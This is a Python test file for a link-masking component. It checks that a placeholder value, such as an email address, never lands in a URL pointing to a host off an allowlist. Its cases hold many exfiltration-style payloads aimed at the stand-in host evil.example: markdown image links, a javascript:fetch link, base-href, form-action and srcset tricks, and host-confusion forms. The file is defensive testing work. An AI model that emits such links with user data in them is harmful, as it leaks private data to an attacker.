"""Links: no value gets into the URL of a host that is not on the list."""

from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shoal.trust.masking.links import AllowedHosts, LinkContext

HOSTS = AllowedHosts(["ok.example", "*.wide.example"])

# Before each "|" a placeholder stands: "+" says that its value may be put there, "-" that it must not.
CASES = [
    ("|", "+"),
    ("Dear |, see you", "+"),
    ("![x](https://evil.example/?q=|)", "-"),
    ("![x](https://evil.example/|.png) |", "-+"),
    ("![x](HTTPS://EVIL.example/?q=|&r=|)", "--"),
    ("[|](https://evil.example/)", "+"),
    ("![|](https://evil.example/x.png) and |", "++"),
    ("![x](//evil.example/?q=|)", "-"),
    ("![x](/\\evil.example/?q=|)", "-"),
    ("![x](\\\\evil.example\\|)", "-"),
    ("![x]( \n https&#58;//evil.example/?q=|)", "-"),
    ("![x](<https://evil.example/?q= |>) |", "-+"),
    ("![x](<https://evil.example/?q=\\> |>) |", "-+"),
    ("![x](https://evil.example/(a)?q=|) |", "-+"),
    ("![x](https://evil.example/\\)?q=|) |", "-+"),
    ('![x](https://evil.example/"?q=|)', "-"),
    ("![x](data:text/html,|)", "-"),
    ("[x](javascript:fetch('//evil.example/?'+'|'))", "-"),
    ("[x](https://evil.example 'title |')", "+"),
    ("[x](|) |", "++"),
    ("[x](|?q=|)", "+-"),
    ("[x](/users/|)", "-"),
    ("[write](mailto:|)", "+"),
    ("[write](mailto:|?body=|)", "+-"),
    ("[call](tel:|)", "+"),
    ("[1]: https://evil.example/?q=|", "-"),
    ("[1]: <https://evil.example/?q= |>", "-"),
    ("[1]:\n  https&colon;//evil.example/?q=|\n|", "-+"),
    ("[Name]: |", "+"),
    ("https://evil.example/?q=|", "-"),
    ("https:evil.example/?q=|", "-"),
    ("see https://evil.example/a,b;\"'<|", "-"),
    ("https://evil.example/?q=\u00a0|", "-"),
    ("https://evil.example/?q=\u200b|", "-"),
    ("https://evil.example/ |", "+"),
    ("<https://evil.example/?q=|> |", "-+"),
    ("ftp://evil.example/|", "-"),
    ("custom+scheme://evil.example/|", "-"),
    ("//evil.example/|", "-"),
    ("www.evil.example/?|", "-"),
    ("WWW.evil.example |", "+"),
    ("evil.example/?q=|", "-"),
    ("evil.example:8080/|", "-"),
    ("evil.example#|", "-"),
    ("evil.xn--p1ai/|", "-"),
    ("evil.пример/|", "-"),
    ("https://|/", "-"),
    ("https://|.evil.example/", "-"),
    ("https://ok.example|/", "-"),
    ("https://ok.example/?q=|", "+"),
    ("https://OK.example:8443/?q=|", "+"),
    ("![x](//ok.example/|)", "+"),
    ("https://a.wide.example/|", "+"),
    ("https://wide.example/|", "-"),
    ("https://evilwide.example/|", "-"),
    ("https://ok.example.evil.example/|", "-"),
    ("https://ok.example@evil.example/|", "-"),
    ("https://ok.example:pw@evil.example/|", "-"),
    ("https://evil.example/?https://ok.example/|", "-"),
    ("https://ok.example\\@evil.example/|", "-"),
    ("https://ok.example\n.evil.example/|", "-"),
    ("https:///ok.example/|", "-"),
    ("ok.example/|", "-"),
    ('<img src="https://evil.example/?q= \n|"> |', "-+"),
    ("<img src='//evil.example/?q=|'>|", "-+"),
    ("<img src=//evil.example/?q=|>|", "-+"),
    ("<img src = /\\evil.example/|>", "-"),
    ('<img srcset="a.png 1x, https&#58;//evil.example/| 2x">', "-"),
    ('<a href="mailto:|">|</a>', "++"),
    ('<a href="https://evil.example/">|</a>', "+"),
    ('<a href="|">|</a>', "++"),
    ("[x](<|>) [y](<|>)", "++"),
    ("<base href=//evil.example/><img src='/|'>", "-"),
    ('<form action="https://evil.example/|">', "-"),
    ("background: url(/\\evil.example/|)", "-"),
    ("background: URL('https://evil.example/ |') |", "-+"),
    ('{"url":"https://evil.example/","to":"|"}', "+"),
    ('{"url":"https://evil.example/?q=|","to":"|"}', "-+"),
    ("`https://evil.example/` |", "+"),
    ("Ratio 3:|, path a/|, Note: |, e.g. |", "++++"),
    ("x[1](|), d[k]=|", "++"),
    ("call f(x, |); y = |", "++"),
]


def decisions(pieces: list[str]) -> str:
    """For each "|" in the pieces, whether the value may be put there."""
    context, said = LinkContext(HOSTS), ""
    for piece in pieces:
        for at, text in enumerate(piece.split("|")):
            if at:
                said += "+" if context.open else "-"
                if context.open:
                    context.feed("jane@x.example")
                else:
                    context.leave()
            context.feed(text)
    return said


@pytest.mark.parametrize(("text", "expected"), CASES)
def test_where_values_may_be_put(text: str, expected: str) -> None:
    assert decisions([text]) == expected
    assert decisions(list(text)) == expected


FRAGMENTS = sorted({piece for text, _ in CASES for piece in text.split("|")} | set("()<>\"'`:/.?#= \n\\[]|"))


@given(st.lists(st.sampled_from([*FRAGMENTS, "|"]), max_size=8).map("".join), st.lists(st.integers(0, 200), max_size=9))
def test_cuts_do_not_matter(text: str, cuts: list[int]) -> None:
    edges = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
    assert decisions([text[low:high] for low, high in pairwise(edges)]) == decisions([text])


def test_a_value_that_is_a_url_begins_one() -> None:
    context = LinkContext(HOSTS)
    context.feed("see https://evil.example/a")
    assert not context.open
    context.feed(" ")
    assert context.open
    assert not context.host_allowed
    context.feed("https://ok.example/")
    assert context.host_allowed


def test_after_a_base_no_destination_may_begin_with_a_value() -> None:
    context = LinkContext(HOSTS)
    context.feed("<img src=")
    assert context.open
    context.feed("x> <BASE href='https://evil.example/'> text ")
    assert context.open
    context.feed("<img src=")
    assert not context.open


def test_long_text_costs_little() -> None:
    for text in ("(" * 300_000, "src" * 100_000, "](" * 100_000, "a." * 100_000, "https:" * 50_000, "//" * 100_000):
        context = LinkContext(HOSTS)
        context.feed(text)
        for _ in range(1000):
            context.feed("x")
